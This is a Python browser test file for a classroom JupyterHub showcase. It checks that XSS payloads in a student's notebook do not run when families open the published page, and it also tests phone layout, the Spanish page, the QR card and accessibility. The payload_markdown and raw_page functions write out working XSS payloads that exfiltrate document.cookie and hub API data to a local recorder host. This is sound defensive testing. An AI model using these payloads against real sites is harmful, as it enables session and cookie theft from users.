"""Browser: a family opens a published piece on a phone, and nothing a student wrote runs.

A learner shares a notebook whose Markdown holds classic XSS (a script, an image's onerror,
an SVG's onload, an iframe's srcdoc, a `javascript:` link, a details' ontoggle, a tracking
pixel, CSS that loads a URL), the teacher records consent and approves through the
classroom service, and Debian's Chromium opens the family link through the proxy, with no
account and with a logged-in hub session. Every payload, if it ran, would tell `Recorder`
(a small HTTP server of this test on 127.0.0.2, another host than the hub's, so the hub's
cookies are never sent to it by right) with `document.cookie` in the query. Each check is
shown able to fail: the same payloads on a page of the recorder's own do reach it, and a raw
page with a script dropped straight into the pages folder runs once the CSP is bypassed.

axe-core (node_modules, `make proxy`) checks the page, its Spanish twin, the gallery, the card and the
404 page. Screenshots and axe reports go to tests/artifacts/showcase-*.png and axe-showcase-*.json.
"""

from __future__ import annotations

import base64
import grp
import io
import json
import os
import pwd
import secrets
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests
from jupyterhub.spawner import set_user_setuid
from PIL import Image, ImageDraw
from playwright.sync_api import Browser, BrowserContext, Page, expect

from axe import assert_accessible
from connected_learning.showcase import publish
from connected_learning.showcase.render import render_page
from connected_learning.showcase.sanitize import markdown_html
from realhub import PASSWORD, RunningHub
from test_showcase_family import english_phrases, purple_pixel_pets

pytestmark = [pytest.mark.integration, pytest.mark.browser]
CLHUB = str(Path(sys.executable).parent / "clhub")
PHONE: dict[str, Any] = {
    "viewport": {"width": 390, "height": 844},
    "is_mobile": True,
    "has_touch": True,
    "device_scale_factor": 2,
}
TITLE, TITLE_ES = "Our street in numbers", "Nuestra calle en números"
PET, PET_ABOUT = "Mi gata morada", "La pinté de morado, mi color favorito."
PURPLE = "rgb(142, 36, 170)"  # the pet's squares; the workbook's starter cat is orange
# What each payload reports as `from=` when it runs; `jslink` only once its link is clicked.
PAYLOADS = ("script", "api", "onerror", "svg", "srcdoc", "jslink", "ontoggle", "tracker", "cssurl", "import")
PRIZE = "Click for a prize"
SETTLE = 30  # seconds a control page's scripts may take to reach the recorder on a busy machine


# --- the recorder ------------------------------------------------------------------------------


class Recorder:
    """Writes down every request it gets (path and Cookie header); serves the control pages.

    `/control/<label>` is the payload Markdown rendered by nbconvert but NOT sanitized, on a
    page with no CSP: there every payload runs and reports to `/hit/control-<label>`.
    """

    def __init__(self) -> None:
        self.seen: list[tuple[str, str]] = []
        self.lock = threading.Lock()
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                with recorder.lock:
                    recorder.seen.append((self.path, self.headers.get("Cookie", "")))
                if self.path.startswith("/control/"):
                    label = self.path.removeprefix("/control/")
                    body = control_page(f"{recorder.url}/hit/control-{label}").encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html; charset=utf-8")
                else:
                    body = b"nothing here"
                    self.send_response(404)
                    self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.url = f"http://127.0.0.2:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def hits(self, where: str) -> list[dict[str, str]]:
        """The payload reports that came to /hit/<where>: {"from": payload, "c": cookies they read, ...}."""
        with self.lock:
            seen = list(self.seen)
        found = []
        for path, cookie in seen:
            parts = urlsplit(path)
            if parts.path == f"/hit/{where}":
                found.append({k: v[0] for k, v in parse_qs(parts.query).items()} | {"cookie header": cookie})
        return found

    def wait_for(self, where: str, payloads: set[str]) -> list[dict[str, str]]:
        """The reports to /hit/<where> once every one of `payloads` has come (fails after SETTLE seconds)."""
        deadline = time.monotonic() + SETTLE
        while {h.get("from") for h in self.hits(where)} < payloads and time.monotonic() < deadline:
            time.sleep(0.05)
        found = self.hits(where)
        missing = payloads - {h.get("from") for h in found}
        assert not missing, f"the control page's payloads {sorted(missing)} never reached the recorder"
        return found

    def everything(self) -> str:
        with self.lock:
            return "\n".join(f"{path} {cookie}" for path, cookie in self.seen)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    r = Recorder()
    yield r
    r.close()


# --- what the learner shares -------------------------------------------------------------------


def payload_markdown(beacon: str) -> str:
    """Classic XSS, each reporting to `beacon` with the cookies it could read, in a Markdown cell."""
    report = f"new Image().src='{beacon}?from=%s&c='+encodeURIComponent(document.cookie)"
    return "\n\n".join(
        [
            "## Secret bonus level",
            "<script>document.title='PWNED';window.clhPwned=1;" + report % "script" + ";"
            "fetch('/hub/api/user').then(r=>r.text()).then(t=>{new Image().src="
            f"'{beacon}?from=api&t='+encodeURIComponent(t.slice(0,300))}})</script>",
            f"<img src=x onerror=\"document.title='PWNED';{report % 'onerror'}\">",
            f'<svg onload="{report % "svg"}"><circle r="5"/></svg>',
            f'<iframe srcdoc="<script>{report % "srcdoc"}</script>"></iframe>',
            f'<a href="javascript:{report % "jslink"};void 0">{PRIZE}</a>',
            f'<details open ontoggle="{report % "ontoggle"}"><summary>More</summary>A hidden surprise.</details>',
            f'<img src="{beacon}?from=tracker" alt="">',
            f'<div style="background-image:url({beacon}?from=cssurl)">A styled box.</div>',
            f'<style>@import url("{beacon}?from=import");</style>',
        ]
    )


def control_page(beacon: str) -> str:
    return (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>control</title></head><body>'
        f"{markdown_html(payload_markdown(beacon))}</body></html>"
    )


def png(width: int, height: int) -> bytes:
    """A bar chart; as wide as a laptop screen it must shrink to a phone, not push the page sideways."""
    picture = Image.new("RGB", (width, height), "white")
    draw = ImageDraw.Draw(picture)
    for i, colour in enumerate(["#e53935", "#fb8c00", "#43a047", "#1e88e5", "#8e24aa", "#00897b"]):
        top = height - (i + 2) * height // 9
        draw.rectangle([40 + i * (width - 80) // 6, top, 20 + (i + 1) * (width - 80) // 6, height - 20], fill=colour)
    out = io.BytesIO()
    picture.save(out, format="PNG")
    return out.getvalue()


def street_notebook(beacon: str) -> dict[str, Any]:
    """The piece: what a phone finds hard (a 1600 px chart, tables wider than the screen, a long word,
    a long output line, links in a list) and, in a cell of its own, the payloads reporting to `beacon`."""
    wide_table = (
        "<table><thead><tr>" + "".join(f"<th>House {n}</th>" for n in range(1, 15)) + "</tr></thead>"
        "<tbody><tr>" + "".join(f"<td>{n * 3} trees</td>" for n in range(1, 15)) + "</tr></tbody></table>"
    )
    chart = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": base64.b64encode(png(1600, 400)).decode(), "text/plain": "<Figure size 1600x400>"},
    }
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
        "cells": [
            {
                "cell_type": "markdown",
                "id": "intro",
                "metadata": {},
                "source": "# Our street\n\nI counted the trees, cats and bikes on my street for a week. "
                "The longest word I know: " + "supercalifragilisticexpialidocious" * 3 + ".\n\n"
                "- [The library's page](https://library.example.org/our-street)\n"
                "- [Trees of the city](https://city.example.org/trees)\n\n"
                "| Day | Trees | Cats | Bikes | Buses | Birds | Dogs | Cars | Kites |\n"
                "|---|---|---|---|---|---|---|---|---|\n"
                "| Monday | 12 | 3 | 8 | 4 | 20 | 6 | 30 | 1 |\n",
            },
            {"cell_type": "markdown", "id": "attack", "metadata": {}, "source": payload_markdown(beacon)},
            {
                "cell_type": "code",
                "id": "chart",
                "execution_count": 1,
                "metadata": {},
                "source": "draw_chart()",
                "outputs": [chart],
            },
            {
                "cell_type": "code",
                "id": "table",
                "execution_count": 2,
                "metadata": {},
                "source": "show_table()",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": wide_table, "text/plain": "<table>"},
                    },
                    {
                        "output_type": "stream",
                        "name": "stdout",
                        "text": "counted:" + ",".join(str(n) for n in range(200)) + "\n",
                    },
                ],
            },
        ],
    }


def street_csv() -> bytes:
    head = ",".join(f"week {n}" for n in range(1, 21))
    return (head + "\n" + ",".join(str(n * 7) for n in range(1, 21)) + "\n").encode()


# --- the hub, the piece, its pages --------------------------------------------------------------


@pytest.fixture(scope="module")
def hub(make_hub: Any) -> RunningHub:
    hub = make_hub({"ana": ("student", ["g"]), "tess": ("teacher", ["g"])})
    s = hub.login("ana")
    assert s.spawn_with_form(["art"]).status_code == 302
    s.wait_ready(hub.name("ana"))
    return hub


def api(hub: RunningHub, short: str, method: str, path: str, **kw: Any) -> requests.Response:
    r = hub.api.post(
        f"/users/{hub.name(short)}/tokens",
        json={"note": "showcase browser test", "expires_in": 600, "scopes": ["access:services!service=classroom"]},
    )
    assert r.status_code == 201, r.text
    return requests.request(
        method,
        f"{hub.url}/services/classroom/api{path}",
        timeout=120,
        headers={"Authorization": f"token {r.json()['token']}"},
        **kw,
    )


def as_learner(hub: RunningHub, short: str, *cmd: str) -> str:
    name = hub.name(short)
    home = pwd.getpwnam(name).pw_dir
    env = {"HOME": home, "PATH": "/usr/bin:/bin", "JUPYTERHUB_USER": name, "CLHUB_DISPLAY_NAME": short.title()}
    done = subprocess.run(
        list(cmd), env=env, cwd=home, capture_output=True, text=True, timeout=60, preexec_fn=set_user_setuid(name)
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def write_as(hub: RunningHub, short: str, files: dict[str, bytes]) -> None:
    """Write files into the learner's home as the learner (so they are theirs); the bytes come on stdin."""
    code = (
        "import json, sys, base64\n"
        "for name, data in json.load(sys.stdin).items():\n"
        "    open(name, 'wb').write(base64.b64decode(data))\n"
    )
    name = hub.name(short)
    home = pwd.getpwnam(name).pw_dir
    data = json.dumps({k: base64.b64encode(v).decode() for k, v in files.items()})
    done = subprocess.run(
        [sys.executable, "-c", code],
        input=data,
        cwd=home,
        capture_output=True,
        text=True,
        timeout=60,
        env={"HOME": home},
        preexec_fn=set_user_setuid(name),
    )
    assert done.returncode == 0, done.stderr


def share_and_propose(hub: RunningHub, title: str, notebook: str) -> str:
    """ana shares `notebook` with the street's picture and table and proposes it; returns the proposal id."""
    out = as_learner(hub, "ana", CLHUB, "share", notebook, "street.png", "street-counts.csv", "--title", title)
    piece = out.split(" as ")[1].split(" ")[0]
    r = api(
        hub,
        "ana",
        "POST",
        f"/groups/{hub.name('g')}/showcase/proposals",
        json={"piece": piece, "title": title, "description": "Trees, cats and bikes on my street."},
    )
    assert r.status_code == 201, r.text
    return r.json()["id"]


def place_page(hub: RunningHub, page: str) -> str:
    """Put `page` in the pages folder as `approve` does (root:clhub-showcase, 0750/0640); returns its token."""
    token = secrets.token_urlsafe(24)
    gid = grp.getgrnam(publish.SHOWCASE_USER).gr_gid
    folder = hub.data_dir / "showcase" / "pages" / token
    folder.mkdir()
    (folder / publish.PAGE).write_text(page, encoding="utf-8")
    for path, mode in ((folder / publish.PAGE, 0o640), (folder, 0o750)):
        os.chown(path, 0, gid)
        os.chmod(path, mode)
    return token


def raw_page(beacon: str) -> str:
    """A page that never went through the sanitizer: only the service's CSP header stands in its way."""
    return (
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>raw</title></head><body>'
        "<main><p>A raw page.</p></main><script>document.title='PWNED';"
        f"new Image().src='{beacon}?from=script&c='+encodeURIComponent(document.cookie);"
        "fetch('/hub/api/user').then(r=>r.text()).then(t=>{new Image().src="
        f"'{beacon}?from=api&t='+encodeURIComponent(t.slice(0,300))}})</script></body></html>"
    )


@pytest.fixture(scope="module")
def links(hub: RunningHub, recorder: Recorder, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Family links: "en" (approved in the classroom API), "es" (approved in Spanish), "play" (the same
    snapshot with a "Play with it" button, as a piece with a live version will have), "pet" (Pixel
    Pets run with the pet painted purple, shared as a learner shares it, approved in Spanish with
    its live version), and two raw pages."""
    g = hub.name("g")
    notebook = json.dumps(street_notebook(f"{recorder.url}/hit/page")).encode()
    write_as(
        hub,
        "ana",
        {
            "our-street.ipynb": notebook,
            "nuestra-calle.ipynb": notebook,
            "street.png": png(1200, 500),
            "street-counts.csv": street_csv(),
        },
    )
    proposal = share_and_propose(hub, TITLE, "our-street.ipynb")
    r = api(hub, "tess", "POST", f"/groups/{g}/showcase/consent/{hub.name('ana')}", json={"given": True})
    assert r.status_code == 200, r.text
    r = api(hub, "tess", "POST", f"/groups/{g}/showcase/proposals/{proposal}/approve")
    assert r.status_code == 200, r.text
    found = {"en": r.json()["link"]}

    # The page's language is chosen once, by the teacher at approval; the service serves that page.
    spanish = share_and_propose(hub, TITLE_ES, "nuestra-calle.ipynb")  # other files: another piece
    r = api(hub, "tess", "POST", f"/groups/{g}/showcase/proposals/{spanish}/approve", json={"lang": "es"})
    assert r.status_code == 200, r.text
    found["es"] = r.json()["link"]
    # The group's gallery for a library event: one page listing both.
    r = api(hub, "tess", "POST", f"/groups/{g}/showcase/gallery", json={"enabled": True})
    assert r.status_code == 200, r.text
    found["gallery"] = r.json()["link"]

    pet = purple_pixel_pets(tmp_path_factory.mktemp("pixel-pets"), tmp_path_factory.mktemp("jupyter"))
    write_as(hub, "ana", pet)
    out = as_learner(hub, "ana", CLHUB, "share", *pet, "--title", PET)
    r = api(
        hub,
        "ana",
        "POST",
        f"/groups/{g}/showcase/proposals",
        json={"piece": out.split(" as ")[1].split(" ")[0], "title": PET, "description": PET_ABOUT},
    )
    assert r.status_code == 201, r.text
    r = api(hub, "tess", "POST", f"/groups/{g}/showcase/proposals/{r.json()['id']}/approve", json={"lang": "es"})
    assert r.status_code == 200, r.text
    found["pet"] = r.json()["link"]

    token = found["en"].rsplit("/", 1)[1]
    stored = hub.data_dir / "showcase" / "snapshots" / token / "files"
    snapshot = {p.name: p.read_bytes() for p in stored.iterdir()}
    play = render_page(snapshot, title=TITLE, author_display="Ana", live_url=found["en"] + "/live")
    found["play"] = publish.family_link(place_page(hub, play))
    for where in ("raw-sandboxed", "raw-bypass"):
        found[where] = publish.family_link(place_page(hub, raw_page(f"{recorder.url}/hit/{where}")))
    return found


# --- browser contexts --------------------------------------------------------------------------


def logged_in(browser: Browser, hub: RunningHub, short: str, **options: Any) -> BrowserContext:
    """A phone context in which `short` has logged in to the hub, with a readable canary cookie
    on both hosts: a script that could read `document.cookie` there would carry it off."""
    context = browser.new_context(**PHONE, **options)
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(f"{hub.url}/hub/login?next=/hub/home")
    page.fill("#username_input", hub.name(short))
    page.fill("#password_input", PASSWORD)
    page.click("#login_submit")
    page.wait_for_url("**/hub/home**")
    page.close()
    names = {c["name"] for c in context.cookies()}
    assert {"jupyterhub-session-id", "jupyterhub-hub-login"} <= names, names
    context.add_cookies(
        [
            {"name": "clh-canary", "value": f"canary-{host}", "url": f"http://{host}/"}
            for host in (urlsplit(hub.url).hostname, "127.0.0.2")
        ]
    )
    return context


def hub_cookie_values(context: BrowserContext) -> list[str]:
    return [c["value"] for c in context.cookies() if c["name"].startswith(("jupyterhub", "_xsrf"))]


def visit(context: BrowserContext, url: str) -> Page:
    """Open `url`, wait until the network is quiet, open what is collapsed (the workbook's steps), click
    the prize link: what a curious visitor does."""
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(url, wait_until="networkidle")
    for summary in page.locator("details:not([open]) > summary").all():
        summary.click()
    prize = page.get_by_text(PRIZE, exact=True)
    if prize.count():
        prize.click()
    return page


def assert_untouched(page: Page, title: str) -> None:
    assert page.title() == title
    assert page.evaluate("typeof window.clhPwned") == "undefined"
    assert page.locator("script, iframe, svg, object, style:not(head style)").count() == 0


# --- the tests ---------------------------------------------------------------------------------


def test_no_payload_runs_and_the_hub_session_never_leaves(
    hub: RunningHub, links: dict[str, str], recorder: Recorder, browser: Browser
) -> None:
    anonymous = browser.new_context(**PHONE)
    session = logged_in(browser, hub, "ana")
    # The CSP is bypassed here (as a browser that ignored the header and the meta tag would):
    # the sanitizer alone must hold. Also shows that the raw page's script is live.
    unguarded = logged_in(browser, hub, "ana", bypass_csp=True)
    try:
        # Controls: the same payloads, unsanitized, on a page that may run scripts. Every one reaches
        # the recorder, and in the logged-in context with the cookies it could read: a dead recorder,
        # or payloads that would not run anyway, fail here.
        visit(anonymous, f"{recorder.url}/control/anonymous")
        recorder.wait_for("control-anonymous", set(PAYLOADS))
        visit(session, f"{recorder.url}/control/session")
        reports = recorder.wait_for("control-session", set(PAYLOADS))
        assert "clh-canary=canary-127.0.0.2" in next(h["c"] for h in reports if h["from"] == "script")

        # The family link: no account, a logged-in session, and the sanitizer alone.
        full_title = f"{TITLE} · Made by Ana"
        for context in (anonymous, session, unguarded):
            assert_untouched(visit(context, hub.url + links["en"]), full_title)
        assert_untouched(visit(session, hub.url + links["es"]), f"{TITLE_ES} · Creado por Ana")

        # Defence in depth: a script that bypassed the sanitizer is still stopped by the sandbox...
        raw = visit(session, hub.url + links["raw-sandboxed"])
        assert raw.title() == "raw"

        # Closing control, after everything above: the recorder still listens.
        visit(session, f"{recorder.url}/control/closing")
        recorder.wait_for("control-closing", set(PAYLOADS))
        assert recorder.hits("page") == [], recorder.hits("page")
        assert recorder.hits("raw-sandboxed") == [], recorder.hits("raw-sandboxed")

        # ...and only by it: with the CSP bypassed, the same raw page runs, reads the canary and
        # calls the hub's API with the visitor's session.
        visit(unguarded, hub.url + links["raw-bypass"])
        reports = recorder.wait_for("raw-bypass", {"script", "api"})
        assert f"clh-canary=canary-{urlsplit(hub.url).hostname}" in next(
            h["c"] for h in reports if h["from"] == "script"
        )

        # The hub's cookies (HttpOnly) never reached the recorder, in a query or a Cookie header.
        everything = recorder.everything()
        for context in (session, unguarded):
            for value in hub_cookie_values(context):
                assert value not in everything
    finally:
        for context in (anonymous, session, unguarded):
            context.close()


def test_the_page_on_a_phone_in_english_and_spanish(
    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path
) -> None:
    context = browser.new_context(**PHONE)
    try:
        for name, words in (
            ("en", ["Made by Ana", "Trees, cats and bikes on my street."]),
            ("es", ["Creado por Ana", "Publicado con la aprobación de un docente"]),
            ("play", ["Play with it", "Opens the live version"]),
        ):
            page = context.new_page()
            fetched: list[str] = []
            page.on("request", lambda request, fetched=fetched: fetched.append(request.url))
            response = page.goto(hub.url + links[name], wait_until="networkidle")
            assert response is not None and response.status == 200
            assert response.headers["content-security-policy"] == "sandbox"
            assert fetched == [hub.url + links[name]], fetched  # everything is inline
            for text in words:
                expect(page.get_by_text(text).first).to_be_visible()
            assert page.evaluate("document.documentElement.lang") == ("es" if name == "es" else "en")
            assert page.evaluate("document.documentElement.scrollWidth") <= 390, "the page scrolls sideways"
            wide = page.evaluate("""[...document.querySelectorAll('main img, main table, main pre, audio')]
                .map(e => [e.tagName, e.getBoundingClientRect().left, e.getBoundingClientRect().right])
                .filter(([, left, right]) => left < 0 || right > 390)""")
            assert wide == [], wide
            assert page.evaluate("parseFloat(getComputedStyle(document.querySelector('main p')).fontSize)") >= 16
            # The chart has alt text in the page's language; what the sanitizer emptied shows no broken picture.
            picture = "Una imagen del cuaderno" if name == "es" else "A picture from the notebook"
            expect(page.get_by_role("img", name=picture)).to_have_count(1)
            assert "No description has been provided" not in page.content()
            for empty in page.locator("img:not([src])").all():
                expect(empty).to_be_hidden()
            if name == "play":
                button = page.get_by_role("link", name="Play with it").bounding_box()
                assert button is not None and button["height"] >= 48 and button["width"] >= 48
            page.screenshot(path=str(artifacts / f"showcase-phone-{name}.png"), full_page=True)
            page.close()
    finally:
        context.close()


def test_the_card_shows_the_whole_link_and_a_qr_code(
    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path
) -> None:
    context = browser.new_context(**PHONE)
    try:
        page = context.new_page()
        response = page.goto(hub.url + links["en"] + "/card")
        assert response is not None and response.status == 200
        expect(page.get_by_text(hub.url + links["en"], exact=True)).to_be_visible()
        qr = page.locator("svg").bounding_box()
        assert qr is not None and qr["width"] >= 150 and abs(qr["width"] - qr["height"]) < 1
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, "the card scrolls sideways"
        page.screenshot(path=str(artifacts / "showcase-card.png"), full_page=True)
    finally:
        context.close()


def test_a_family_sees_the_childs_purple_pet_in_spanish_on_the_page_the_card_and_the_live_page(
    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path
) -> None:
    context = browser.new_context(**PHONE)
    context.set_default_timeout(60_000)
    try:
        page = context.new_page()
        response = page.goto(hub.url + links["pet"])
        assert response is not None and response.status == 200
        # The creation and the child's words first: title, name, description, then the purple pet.
        expect(page.get_by_role("heading", level=1)).to_have_text(PET)
        expect(page.get_by_text("Creado por Ana")).to_be_visible()
        expect(page.get_by_text(PET_ABOUT)).to_be_visible()
        expect(page.get_by_role("link", name="Pruébalo")).to_be_visible()
        pet = page.locator("main .clh-grid").first
        expect(pet).to_be_visible()
        assert pet.evaluate(
            f"g => [...g.querySelectorAll('span')].some(s => getComputedStyle(s).backgroundColor === '{PURPLE}')"
        )
        # The workbook's steps are collapsed, after the creation; nothing about running a notebook or sharing.
        steps = page.locator("details.clh-steps")
        expect(steps).to_have_count(1)
        assert steps.evaluate("d => !d.open") and pet.evaluate(
            "(g, d) => g.compareDocumentPosition(d) & 4", steps.element_handle()
        )
        shown = page.evaluate("document.body.innerText") + " ".join(
            page.evaluate(
                "[...document.querySelectorAll('[alt], [aria-label], title')]"
                ".map(e => e.getAttribute('alt') || e.getAttribute('aria-label') || e.textContent)"
            )
        )
        assert [p for p in english_phrases() if p in shown] == [], "English on the Spanish page"
        for learner_only in ("Shift", "Share with", "demo-class", "Log Out"):
            assert learner_only not in page.content(), learner_only
        assert page.evaluate("document.scrollingElement.scrollWidth") <= 390
        page.screenshot(path=str(artifacts / "showcase-pet-es.png"), full_page=True)

        # The card for the fridge: title, name, picture, the whole link and its QR code, in Spanish.
        card = context.new_page()
        response = card.goto(hub.url + links["pet"] + "/card")
        assert response is not None and response.status == 200
        expect(card.get_by_role("heading", level=1)).to_have_text(PET)
        expect(card.get_by_text("Creado por Ana")).to_be_visible()
        picture = card.get_by_role("img", name=f"Una imagen de {PET}")
        expect(picture).to_be_visible()
        assert picture.evaluate("i => i.naturalWidth") > 0
        expect(card.get_by_text(hub.url + links["pet"], exact=True)).to_be_visible()
        expect(card.get_by_role("img", name=f"Código QR del enlace a {PET}")).to_be_visible()
        shown = card.evaluate("document.body.innerText")
        assert [p for p in english_phrases() if p in shown] == [] and card.title() == f"Tarjeta: {PET}"
        assert card.evaluate("document.scrollingElement.scrollWidth") <= 390
        card.screenshot(path=str(artifacts / "showcase-pet-card.png"), full_page=True)

        # "Pruébalo": the live page opens with the child's purple pet, with no learner-only control.
        live = context.new_page()
        token = links["pet"].rsplit("/", 1)[1]
        response = live.goto(f"{hub.url}/services/showcase-live/p/{token}")
        assert response is not None and response.status == 200
        squares = live.locator(".clh-cell-grid").first
        expect(squares).to_be_visible(timeout=120_000)
        colours = squares.evaluate(
            "g => [...g.querySelectorAll('button')].map(b => getComputedStyle(b).backgroundColor)"
        )
        assert PURPLE in colours and "rgb(251, 140, 0)" not in colours, "not the child's pet"
        expect(live).to_have_title(PET)
        for control in ("Save PNG", "Share with my group", "Propose", "Log Out"):
            expect(live.get_by_role("button", name=control)).to_have_count(0)
        for words in ("You are not in a group", "in your folder", "Welcome back", "Shift + Enter", "File → Log Out"):
            expect(live.get_by_text(words)).to_have_count(0)
        live.wait_for_timeout(1000)  # the widgets' last layout
        assert live.evaluate("document.scrollingElement.scrollWidth") <= 390, "the live page scrolls sideways"
        box = squares.bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
        cut = live.evaluate("""[...document.querySelectorAll('.widget-button:not(.clh-cell), .widget-label')]
            .filter(e => e.offsetParent && (e.scrollWidth > e.clientWidth + 1 || e.innerText.includes('…')))
            .map(e => e.innerText)""")
        assert cut == [], f"labels cut off: {cut}"
        live.screenshot(path=str(artifacts / "showcase-live-pet.png"), full_page=True)
        assert_accessible(live, "showcase-live-pet")
    finally:
        context.close()


@pytest.mark.parametrize("name", ["page-en", "page-es", "page-play", "gallery", "card", "not-found", "pet", "pet-card"])
def test_axe_finds_nothing_serious(
    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path, name: str
) -> None:
    paths = {
        "page-en": links["en"],
        "page-es": links["es"],
        "page-play": links["play"],
        "gallery": links["gallery"],
        "card": links["en"] + "/card",
        "not-found": "/services/showcase/p/" + "x" * 32,
        "pet": links["pet"],
        "pet-card": links["pet"] + "/card",
    }
    # The pages forbid every script (CSP sandbox, and a meta CSP of default-src 'none'), axe's too:
    # this context bypasses CSP so axe can be injected. It only measures; the security checks above
    # never use a bypassing context except to show what the CSP stops.
    context = browser.new_context(**PHONE, bypass_csp=True)
    try:
        page = context.new_page()
        response = page.goto(hub.url + paths[name])
        assert response is not None and response.status == (404 if name == "not-found" else 200)
        assert_accessible(page, f"showcase-{name}")
    finally:
        context.close()
